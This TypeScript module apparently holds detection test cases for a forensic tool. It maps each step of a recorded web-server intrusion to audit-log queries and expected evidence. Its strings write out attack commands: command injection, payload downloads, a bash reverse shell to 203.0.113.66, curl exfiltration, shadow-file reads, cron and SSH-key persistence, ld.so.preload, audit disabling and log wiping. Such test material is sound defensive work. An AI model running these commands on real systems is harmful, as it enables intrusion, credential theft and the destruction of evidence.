/**
 * How each step of the recorded attack is found: a row a step.
 *
 * A question names what a responder can know when it is asked: a file that should not change, an
 * address that another answer showed, a kind of act that is rare. No process is named by its pid,
 * and times are those of minutes.
 *
 * @module
 */
import type { LookUp } from "./look-up.ts";

const CGI = ["lookup.cgi", "fcgiwrap"];
const WEB_SHELL = "/srv/web/cgi-bin/img.cgi";
const ATTACKER = "203.0.113.66";

const FOOTHOLD: readonly LookUp[] = [
  {
    label: "a01",
    questions: [
      {
        ask: "diff 10:11 10:12 --all",
        picks: [{ type: "program", object: /^\/usr\/bin\/id$/u }],
      },
    ],
    above: CGI,
    told: ["; id; "],
  },
  {
    label: "a02",
    questions: [
      { ask: "blame /usr/bin/whoami", picks: [{ type: "exec", object: /\/whoami$/u }] },
      {
        ask: "who /etc/passwd --since 10:12 --limit 0",
        picks: [{ type: "open", object: /\/passwd$/u, arguments: "/usr/bin/cat /etc/passwd" }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/id", "/usr/bin/uname -a", "/usr/bin/ls -la /home"],
  },
  {
    label: "a03",
    questions: [
      {
        ask: "trace /tmp/.font-unix/stage.sh --back",
        picks: [
          { type: "open", object: /\/stage\.sh$/u, program: "/usr/bin/curl" },
          { type: "mode", object: /\/stage\.sh$/u, program: "/usr/bin/chmod" },
        ],
      },
    ],
    above: CGI,
    told: ["-o stage.sh http://cdn-stats.example:8000/stage.sh", "chmod 755 stage.sh"],
  },
  {
    label: "a04",
    questions: [
      {
        ask: "timeline --type exec --path /tmp/",
        picks: [{ type: "exec", object: /^\/tmp\/\.font-unix\/stage\.sh$/u }],
      },
      {
        ask: `who ${ATTACKER}:8000`,
        picks: [{ type: "connect", object: /:8000$/u, arguments: "/b?i=" }],
      },
    ],
    above: CGI,
    told: ["/b?i=1'", "/b?i=8'", "/usr/bin/sleep 4"],
  },
  {
    label: "a05",
    questions: [
      {
        ask: `who ${ATTACKER}:4443`,
        picks: [
          {
            type: "connect",
            object: /^203\.0\.113\.66:4443$/u,
            program: "/tmp/.font-unix/kworkerd",
          },
        ],
      },
    ],
    above: CGI,
    told: ["/usr/bin/curl -s -o x.c", "/usr/bin/gcc -o kworkerd x.c"],
  },
];

const INSIDE: readonly LookUp[] = [
  {
    label: "a06",
    questions: [
      { ask: "timeline --type memory-file", picks: [{ type: "memory-file", object: /memory/u }] },
      {
        ask: "timeline --type exec --proc memfd:",
        picks: [{ type: "exec", object: /^memfd:$/u, arguments: "[kworker/u8:2]" }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/python3 mf.py", "-o mf.py http://203.0.113.66:8000/mf.py"],
  },
  {
    label: "a07",
    questions: [
      {
        ask: "timeline --type trace",
        picks: [
          { type: "trace", object: /^pid 9287$/u, failed: false },
          { type: "trace", object: /^pid 7758$/u, failed: true },
        ],
      },
      {
        ask: "timeline --type fork --proc python3 --since 10:13:07 --until 10:13:09",
        picks: [{ type: "fork", object: /^pid 9287$/u }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/python3 pt.py"],
  },
  {
    label: "a08",
    questions: [
      {
        ask: "who /etc/shadow",
        picks: [{ type: "open", object: /^\/etc\/shadow$/u, failed: true }],
      },
      {
        ask: "who /etc/gshadow",
        picks: [{ type: "open", object: /^\/etc\/gshadow$/u, failed: true }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/sudo -n cat /etc/shadow"],
  },
  {
    label: "a09",
    questions: [
      {
        ask: "trace /etc/shadow --back",
        picks: [
          {
            type: "open",
            object: /^\/etc\/shadow$/u,
            program: "/usr/local/bin/webctl",
            failed: false,
          },
        ],
      },
    ],
    above: CGI,
    told: ["/usr/local/bin/webctl cat /etc/shadow (uid 2001 euid 0)"],
  },
  {
    label: "a10",
    questions: [
      {
        ask: "who /home/web/.aws/",
        picks: [{ type: "open", object: /\/\.aws\/credentials$/u, failed: false }],
      },
      {
        ask: "who /home/deploy/.ssh/",
        picks: [{ type: "open", object: /\/id_ed25519$/u, arguments: "/srv/web/etc/site.key" }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/grep -rniE 'passw|secret'", "-name '*.pem' -o -name 'id_*'"],
  },
];

const STAYING: readonly LookUp[] = [
  {
    label: "a11",
    questions: [
      {
        ask: "who /var/spool/cron/",
        picks: [{ type: "rename", object: /\/crontabs\/web$/u, program: "/usr/bin/crontab" }],
      },
      {
        ask: "who /etc/cron.d/",
        picks: [{ type: "open", object: /^\/etc\/cron\.d/u, failed: true }],
      },
    ],
    above: CGI,
    told: ["17 4 1 1 * /tmp/.font-unix/stage.sh", "/usr/bin/crontab -"],
  },
  {
    label: "a12",
    questions: [
      {
        ask: "who /home/web/.ssh/",
        picks: [{ type: "open", object: /\/authorized_keys$/u, failed: false }],
      },
    ],
    above: CGI,
    told: [">> /home/web/.ssh/authorized_keys"],
  },
  {
    label: "a13",
    questions: [
      {
        ask: `trace ${WEB_SHELL} --forward`,
        picks: [
          { type: "open", object: /\/img\.cgi$/u, program: "/usr/bin/dash" },
          { type: "mode", object: /\/img\.cgi$/u, program: "/usr/bin/chmod" },
          { type: "exec", object: /\/img\.cgi$/u, program: "/usr/bin/bash" },
        ],
      },
    ],
    above: CGI,
    told: [`> ${WEB_SHELL}`, "/usr/bin/tail -n 2 /srv/web/logs/access.log"],
  },
  {
    label: "a14",
    questions: [
      {
        ask: "timeline --type connect --since 10:13 --until 10:14 --limit 0",
        picks: [
          {
            type: "connect",
            object: /^(?:127\.0\.0|192\.0\.2)\.\d+:\d+$/u,
            times: 310,
          },
        ],
      },
      {
        ask: "who 192.0.2.10",
        picks: [{ type: "connect", object: /^192\.0\.2\.10:(?:22|445|3306)$/u }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/python3 scan.py"],
  },
];

const LEAVING: readonly LookUp[] = [
  {
    label: "a15",
    questions: [
      {
        ask: `who ${ATTACKER}:4444`,
        picks: [{ type: "connect", object: /^203\.0\.113\.66:4444$/u, program: "/usr/bin/bash" }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"],
  },
  {
    label: "a16",
    questions: [
      {
        ask: "trace /tmp/.font-unix/d.tgz --forward",
        picks: [
          { type: "open", object: /\/d\.tgz$/u, program: "/usr/bin/curl" },
          { type: "send", object: /^203\.0\.113\.66:8000$/u, program: "/usr/bin/curl" },
        ],
      },
    ],
    above: CGI,
    told: ["/usr/bin/tar -C /srv/web -czf", "/usr/bin/curl -s -T /tmp/.font-unix/d.tgz"],
  },
  {
    label: "a17",
    questions: [
      {
        ask: "bisect --path /dev/shm/ --type exec",
        picks: [{ type: "exec", object: /^\/dev\/shm\/nginx-worker$/u }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/cp /usr/bin/sleep /dev/shm/.s", "/usr/bin/mv /dev/shm/.s"],
  },
  {
    label: "a18",
    questions: [
      // The log has no more of a file that could not be made than its directory.
      {
        ask: "timeline --path /etc",
        picks: [{ type: "open", object: /^\/etc$/u, failed: true }],
      },
      {
        ask: "who /tmp/.font-unix/p.so",
        picks: [{ type: "map", object: /\/p\.so$/u, program: "/usr/bin/true" }],
      },
    ],
    above: CGI,
    told: ["> /etc/ld.so.preload", "LD_PRELOAD=/tmp/.font-unix/p.so"],
  },
  {
    label: "a19",
    questions: [
      {
        ask: `timeline --addr ${ATTACKER} --type USER_START`,
        picks: [{ type: "record", object: /USER_START .*acct=deploy .*addr=203\.0\.113\.66/u }],
      },
      {
        ask: "who /etc/shadow",
        picks: [{ type: "open", object: /shadow$/u, program: "/usr/bin/head", failed: false }],
      },
    ],
    above: ["sshd"],
    told: ["/usr/bin/find /etc/shadow -exec head", "(uid 0)"],
  },
  {
    label: "a20",
    questions: [
      {
        ask: "timeline --type exec --proc auditctl",
        picks: [{ type: "exec", object: /auditctl/u }],
      },
      {
        ask: "who /etc/audit/",
        picks: [{ type: "open", object: /\/audit\.rules$/u, failed: true }],
      },
    ],
    above: CGI,
    told: ["/usr/sbin/auditctl -e 0", "/usr/sbin/auditctl -D", "/usr/sbin/auditctl -s"],
  },
  {
    label: "a21",
    questions: [
      {
        ask: "who /home/web/.bash_history --since 10:14",
        picks: [
          { type: "unlink", object: /\/\.bash_history$/u },
          { type: "symlink", object: /\/\.bash_history$/u },
        ],
      },
      {
        ask: "timeline --path /srv/web/logs/error.log --since 10:12",
        picks: [{ type: "open", object: /\/error\.log$/u, program: "/usr/bin/dash" }],
      },
      {
        ask: `trace ${WEB_SHELL} --back`,
        picks: [{ type: "open", object: /\/img\.cgi$/u, program: "/usr/bin/touch" }],
      },
    ],
    above: CGI,
    told: ["/usr/bin/find /tmp/.font-unix -type f -delete", "/usr/bin/mv /srv/web/logs/health.log"],
  },
];

export const LOOK_UPS: readonly LookUp[] = [...FOOTHOLD, ...INSIDE, ...STAYING, ...LEAVING];
